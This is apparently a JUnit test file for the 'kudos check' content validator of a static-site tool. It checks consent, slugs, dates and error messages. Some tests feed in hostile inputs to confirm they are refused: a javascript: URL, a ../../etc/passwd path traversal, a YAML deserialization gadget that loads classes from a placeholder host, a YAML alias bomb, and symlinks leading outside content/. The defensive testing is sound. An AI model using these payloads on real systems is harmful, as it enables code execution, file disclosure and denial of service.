package io.github.kudos.check;

import io.github.kudos.TestSite;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** One test per content rule: the exact message and position a user sees from `kudos check`. */
class ValidationTest {
    private static final String CONSENT = """
            consent:
              given: 2024-05-02
              by: Jane Doe, owner
              scope: [name, logo, quote, story, impact]
            """;

    @TempDir
    Path dir;

    private TestSite.Run check(String txtar) {
        return TestSite.of(dir, TestSite.SITE + txtar).check();
    }

    @Test
    void unknownKeyGetsDidYouMean() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho Café
                websit: https://coho.example
                """ + CONSENT);
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:2:1: error: unknown key 'websit' (did you mean 'website'?)");
    }

    @Test
    void consentGivenOnADateStillToComeIsAnError() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                consent:
                  given: 2099-01-01
                  scope: [name]
                """);
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).containsExactly("content/clients/coho.yaml:3:3: error: consent of 'coho' is given on "
                + "2099-01-01, a date still to come (write the date they said yes; a profile is published from that day)");
    }

    @Test
    void missingNameIsReported() {
        var run = check("""
                -- content/clients/coho.yaml --
                summary: A café
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly("content/clients/coho.yaml:1:1: error: missing required key 'name'");
    }

    @Test
    void impossibleDateIsRefused() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                since: 2015-02-30
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:2:8: error: 'since' is not a valid date: '2015-02-30' (use YYYY-MM-DD, e.g. 2015-03-01)");
    }

    @Test
    void websiteMustBeHttp() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                website: javascript:alert(1)
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:2:10: error: 'website' must be an http(s) URL: 'javascript:alert(1)' (e.g. https://example.com)");
    }

    @Test
    void slugMustBeLowercaseWords() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                slug: Coho Café
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:2:7: error: invalid slug 'Coho Café' (use lowercase letters, digits and single hyphens, e.g. 'coho-cafe')");
    }

    @Test
    void slugsAreUniqueAcrossRelationships() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                """ + CONSENT + """
                -- content/suppliers/coho.yaml --
                name: Coho Roasters
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/suppliers/coho.yaml:1:1: error: duplicate profile slug 'coho' (also used by content/clients/coho.yaml; set a different 'slug:')");
    }

    @Test
    void duplicateKeysAreReported() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                name: Coho Café
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:2:1: error: duplicate key 'name' (first defined at line 1)");
    }

    @Test
    void storyNamingAnUnknownProfileGetsDidYouMean() {
        var run = check("""
                -- content/clients/coho-cafe.yaml --
                name: Coho
                """ + CONSENT + """
                -- content/stories/weekend.md --
                ---
                title: A weekend
                date: 2024-09-12
                clients: [coho-caf]
                ---
                Text.
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/stories/weekend.md:4:11: error: unknown profile 'coho-caf' (did you mean 'coho-cafe'?)");
    }

    /** Found in the CLI campaign: a profile with a YAML error also made each story naming it an "unknown profile". */
    @Test
    void aStoryNamingAProfileThatCannotBeReadGetsNoErrorOfItsOwn() {
        var run = check("""
                -- content/clients/coho-cafe.yaml --
                name: Coho
                  bad: indentation
                """ + CONSENT + """
                -- content/stories/weekend.md --
                ---
                title: A weekend
                date: 2024-09-12
                clients: [coho-cafe]
                ---
                Text.
                """);
        assertThat(run.errorLines()).hasSize(1).allMatch(line -> line.startsWith("content/clients/coho-cafe.yaml:"));
    }

    @Test
    void storyNeedsStoryConsent() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                consent:
                  given: 2024-05-02
                  scope: [name, logo]
                -- content/stories/weekend.md --
                ---
                title: A weekend
                date: 2024-09-12
                clients:
                  - coho
                ---
                Text.
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/stories/weekend.md:5:5: error: the consent of 'coho' does not cover stories "
                        + "(add 'story' to consent.scope in content/clients/coho.yaml once they agree)");
    }

    @Test
    void storyCannotNameAnUnpublishedProfile() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                -- content/stories/weekend.md --
                ---
                title: A weekend
                date: 2024-09-12
                clients: [coho]
                ---
                Text.
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/stories/weekend.md:4:11: error: story names 'coho', which is not published: it has no consent "
                        + "(mark the story draft: true, or record the profile's consent)");
    }

    @Test
    void assetsMustExistInsideContent() {
        var run = check("""
                -- content/clients/a.yaml --
                name: A
                logo: ../../etc/passwd.svg
                """ + CONSENT + """
                -- content/clients/b.yaml --
                name: B
                logo: /etc/logo.svg
                """ + CONSENT + """
                -- content/clients/c.yaml --
                name: C
                logo: assets/logos/c.svg
                """ + CONSENT + """
                -- content/clients/d.yaml --
                name: D
                logo: assets/logos/d.exe
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/a.yaml:2:7: error: asset path must not leave content/: '../../etc/passwd.svg'",
                "content/clients/b.yaml:2:7: error: asset path must be relative to content/: '/etc/logo.svg' (e.g. assets/logos/coho.svg)",
                "content/clients/c.yaml:2:7: error: asset not found: content/assets/logos/c.svg",
                "content/clients/d.yaml:2:7: error: unsupported image type '.exe' for 'assets/logos/d.exe' (use one of jpeg, jpg, png, svg, webp)");
    }

    @Test
    void unknownConsentScopeGetsAHint() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                consent:
                  given: 2024-05-02
                  scope: [name, logos]
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:4:17: error: unknown consent scope 'logos' (did you mean 'logo'?)");
    }

    @Test
    void brokenYamlPointsAtTheProblem() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                tags: [a, b
                """);
        assertThat(run.errorLines()).hasSize(1);
        assertThat(run.errorLines().get(0)).startsWith("content/clients/coho.yaml:3:1: error: invalid YAML: ");
    }

    @Test
    void commaInsideFlowMappingExplainsItself() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                milestones:
                  - { date: 2020-06-01, title: Served 10,000 coffees }
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:3:42: error: unknown key '000 coffees' "
                        + "(inside { }, a comma ends a value: put text that has commas in quotes)");
    }

    @Test
    void storiesNeedFrontMatter() {
        var run = check("""
                -- content/stories/weekend.md --
                # A weekend
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/stories/weekend.md:1:1: error: missing front matter "
                        + "(start the file with a '---' line, then 'title: ...', then another '---' line)");
    }

    @Test
    void frontMatterPositionsCountFromTheFileStart() {
        var run = check("""
                -- content/stories/weekend.md --
                ---
                title: A weekend
                date: 2024-13-01
                ---
                Text.
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/stories/weekend.md:3:7: error: 'date' is not a valid date: '2024-13-01' (use YYYY-MM-DD, e.g. 2015-03-01)");
    }

    @Test
    void oversizedFilesAreRefusedBeforeParsing() {
        var run = check("""
                -- content/clients/huge.yaml --
                name: Huge
                summary: %s
                """.formatted("x".repeat(1_100_000)));
        assertThat(run.errorLines()).hasSize(1);
        assertThat(run.errorLines().get(0)).matches(
                "content/clients/huge\\.yaml:1:1: error: file is \\d+ bytes, larger than the limit of 1048576 bytes .*");
    }

    @Test
    void termsThatMakeTheSamePathAreAnErrorNamingBoth() {
        var run = check("""
                -- content/clients/a.yaml --
                name: A
                industry: Food & Drink
                """ + CONSENT + """
                -- content/clients/b.yaml --
                name: B
                industry: food-and-drink
                """ + CONSENT);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/b.yaml:1:1: error: industries 'food-and-drink' and 'Food & Drink' (in content/clients/a.yaml) "
                        + "would both be written to /industries/food-and-drink/ (spell them the same way)");
    }

    @Test
    void pageThatTakesASectionPathIsAnErrorNamingBoth() {
        var run = check("""
                -- content/pages/clients.md --
                ---
                title: Our clients
                ---
                Hello.
                """);
        assertThat(run.errorLines()).containsExactly(
                "content/pages/clients.md:1:1: error: output path 'clients/index.html' would be written by "
                        + "content/pages/clients.md and the clients list (rename one of them (slug, term or file name))");
    }

    @Test
    void yamlTagsAreRefusedAndNothingIsConstructed() {
        var run = check("""
                -- content/clients/evil.yaml --
                name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]
                """ + CONSENT);
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).first().asString()
                .isEqualTo("content/clients/evil.yaml:1:7: error: invalid YAML: Global tag is not allowed: "
                        + "tag:yaml.org,2002:javax.script.ScriptEngineManager");
    }

    @Test
    void aliasBombsAreRefused() {
        StringBuilder yaml = new StringBuilder("name: Bomb\nextra:\n  a: &a [x, x, x, x, x, x, x, x, x]\n");
        String previous = "a";
        for (char c = 'b'; c <= 'k'; c++) {
            yaml.append("  ").append(c).append(": &").append(c).append(" [");
            yaml.append(String.join(", ", java.util.Collections.nCopies(9, "*" + previous))).append("]\n");
            previous = String.valueOf(c);
        }
        var run = check("-- content/clients/bomb.yaml --\n" + yaml);
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).first().asString().startsWith("content/clients/bomb.yaml:");
        assertThat(run.err()).contains("invalid YAML");
    }

    @Test
    void norwayStaysText() {
        var site = TestSite.of(dir, TestSite.SITE + """
                -- content/clients/fjord.yaml --
                name: Fjord AS
                location: NO
                featured: true
                """ + CONSENT);
        var run = site.build();
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(site.read("clients/fjord/index.html")).contains(">NO<");
    }

    @Test
    void everyErrorOfEveryFileIsReportedInOneRun() {
        var run = check("""
                -- content/clients/a.yaml --
                nam: A
                -- content/clients/b.yaml --
                name: B
                since: yesterday
                -- content/stories/s.md --
                ---
                title: S
                ---
                """);
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/a.yaml:1:1: error: missing required key 'name'",
                "content/clients/a.yaml:1:1: error: unknown key 'nam' (did you mean 'name'?)",
                "content/clients/b.yaml:2:8: error: 'since' is not a valid date: 'yesterday' (use YYYY-MM-DD, e.g. 2015-03-01)",
                "content/stories/s.md:2:1: error: missing required key 'date' (use YYYY-MM-DD)");
        assertThat(run.err()).endsWith("kudos: 4 errors\n");
    }

    @Test
    void cleanSiteChecksOk() {
        var run = check("""
                -- content/clients/coho.yaml --
                name: Coho
                """ + CONSENT);
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).isEqualTo("ok: 1 published profile, 0 stories, 15 pages\n");
    }

    @Test
    void aLogoThatLinksOutOfContentIsRefusedAndNeverCopied() throws Exception {
        java.nio.file.Path outside = dir.resolve("outside-secret.svg");
        java.nio.file.Files.writeString(outside, "<svg>SECRET-OUTSIDE</svg>");
        TestSite site = TestSite.of(dir.resolve("site"), TestSite.SITE + """
                -- content/clients/coho.yaml --
                name: Coho
                logo: assets/logos/coho.svg
                """ + CONSENT);
        java.nio.file.Files.createDirectories(site.root().resolve("content/assets/logos"));
        java.nio.file.Files.createSymbolicLink(site.root().resolve("content/assets/logos/coho.svg"), outside);
        java.nio.file.Files.createSymbolicLink(site.root().resolve("content/assets/logos/other.svg"), outside);
        var run = site.check();
        assertThat(run.errorLines()).containsExactly(
                "content/clients/coho.yaml:2:7: error: asset 'assets/logos/coho.svg' is a link that leads outside content/");
        assertThat(site.build().exitCode()).isEqualTo(1);
        site.with("content/clients/coho.yaml", "name: Coho\n" + CONSENT);
        assertThat(site.build().exitCode()).isZero();
        assertThat(site.site().resolve("assets/logos/other.svg")).doesNotExist();
    }

    /** Found in the CLI campaign: a page linked to a file outside the site was read and published whole. */
    @Test
    void aContentFileThatLinksOutOfContentIsRefusedAndNeverPublished() throws Exception {
        java.nio.file.Path outside = dir.resolve("outside.md");
        java.nio.file.Files.writeString(outside, "---\ntitle: Notes\n---\nSECRET-OUTSIDE\n");
        java.nio.file.Path outsideProfile = dir.resolve("outside.yaml");
        java.nio.file.Files.writeString(outsideProfile, "name: Outside\n" + CONSENT);
        TestSite site = TestSite.of(dir.resolve("site"), TestSite.SITE + """
                -- content/pages/about.md --
                ---
                title: About
                ---
                Hello.
                """);
        java.nio.file.Files.createSymbolicLink(site.root().resolve("content/pages/notes.md"), outside);
        java.nio.file.Files.createDirectories(site.root().resolve("content/clients"));
        java.nio.file.Files.createSymbolicLink(site.root().resolve("content/clients/outside.yaml"), outsideProfile);
        java.nio.file.Files.createSymbolicLink(site.root().resolve("content/pages/inside.md"),
                site.root().resolve("content/pages/about.md"));
        var run = site.build();
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).containsExactly(
                "content/clients/outside.yaml:1:1: error: the file is reached through a link that leads outside content/ "
                        + "(Kudos reads only files inside content/: copy the file in instead)",
                "content/pages/notes.md:1:1: error: the file is reached through a link that leads outside content/ "
                        + "(Kudos reads only files inside content/: copy the file in instead)");
        assertThat(site.site()).doesNotExist();
    }

    /** A whole content folder linked to a folder elsewhere: its files are not links, the folder is. */
    @Test
    void aContentFolderThatLinksOutOfContentIsRefusedAndNeverPublished() throws Exception {
        java.nio.file.Path outside = dir.resolve("elsewhere");
        java.nio.file.Files.createDirectories(outside);
        java.nio.file.Files.writeString(outside.resolve("leak.md"), "---\ntitle: Leak\n---\nSECRET-OUTSIDE\n");
        TestSite site = TestSite.of(dir.resolve("site"), TestSite.SITE);
        java.nio.file.Files.createSymbolicLink(site.root().resolve("content/pages"), outside);
        var run = site.build();
        assertThat(run.exitCode()).isEqualTo(1);
        assertThat(run.errorLines()).containsExactly(
                "content/pages/leak.md:1:1: error: the file is reached through a link that leads outside content/ "
                        + "(Kudos reads only files inside content/: copy the file in instead)");
        assertThat(site.site()).doesNotExist();
    }
}
